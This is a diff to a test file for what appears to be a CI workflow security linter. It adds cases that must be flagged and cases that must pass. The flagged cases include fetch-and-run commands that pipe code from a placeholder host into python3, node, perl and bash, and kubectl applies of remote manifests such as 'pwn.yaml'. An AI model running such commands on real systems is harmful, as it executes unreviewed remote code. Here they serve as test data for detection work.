@@ -98,6 +98,16 @@ def test_trusted_contexts_in_run_pass(expr: str) -> None:
         'sh -c "$(curl -fsSL https://x.test/i)"',
         "source <(curl -s https://x.test/env)",
         "curl -s https://x.test/i.sh \\\n  | bash",
+        # A second red team's: other interpreters, xargs, and a manifest applied from a URL.
+        "python3 <(curl -fsSL https://x.test/x.py)",
+        "node <(curl -s https://x.test/x.js)",
+        'python3 -c "$(curl -fsSL https://x.test/x.py)"',
+        "perl -e \"$(curl -s https://x.test/x.pl)\"",
+        "curl -fsSL https://x.test/i.sh | xargs -0 bash -c",
+        "curl -s https://x.test/i.py | python3 -",
+        "kubectl apply -f https://x.test/pwn.yaml",
+        'kubectl -n "$NAMESPACE" apply --filename="https://x.test/pwn.yaml"',
+        "kubectl apply -k https://github.com/x/y//overlays/prod",
     ],
 )
 def test_a_download_piped_into_a_shell_is_an_error(script: str) -> None:
@@ -319,7 +329,10 @@ def test_the_red_team_permissions_are_four_errors_and_packages_write_is_not() ->
     scopes = ("contents", "actions", "id-token", "pull-requests")
     assert found == sorted(f"cicd.write_permissions @ $.jobs.test.permissions.{s}" for s in scopes)
     build = "{contents: read, packages: write, id-token: none}"
-    assert rules(HEAD + SAFE_JOBS.replace("  test:\n", f"  test:\n    permissions: {build}\n")) == []
+    test_job = HEAD + SAFE_JOBS.replace("  test:\n", f"  test:\n    permissions: {build}\n")
+    assert rules(test_job) == ["cicd.write_permissions @ $.jobs.test.permissions.packages"]  # the test job pushes nothing
+    pushes = with_step(f"{{uses: {pins.latest('docker/login-action').uses}, with: {{registry: ghcr.io}}}}", "test")
+    assert rules(pushes.replace("  test:\n", f"  test:\n    permissions: {build}\n")) == []
 
 
 def with_script(script: str, job: str = "test") -> str:
@@ -364,6 +377,11 @@ def test_a_download_run_by_a_later_step_of_the_job_is_reported_there() -> None:
         "curl -fsS -o /tmp/kc https://x.test/kc && chmod 600 /tmp/kc",
         "curl -fsS -o x.sh https://x.test/x.sh  # then: bash x.sh\necho fetched",
         "bash scripts/test.sh\ncurl -fsS -o scripts/test.sh.sig https://x.test/sig",
+        # Read as data, not run: false positives a red team found.
+        'curl -fsS "$BASE_URL/health" | python3 -m json.tool',
+        'curl -fsS -o health.json "$BASE_URL/health"\npython3 -m json.tool health.json',
+        "curl -fsS https://x.test/h | python3 -c 'import json, sys; json.load(sys.stdin)'",
+        "kubectl apply -f k8s/dev/ && kubectl -n x get svc -o jsonpath='{.spec}'",
     ],
 )
 def test_downloads_that_run_nothing_pass(script: str) -> None:
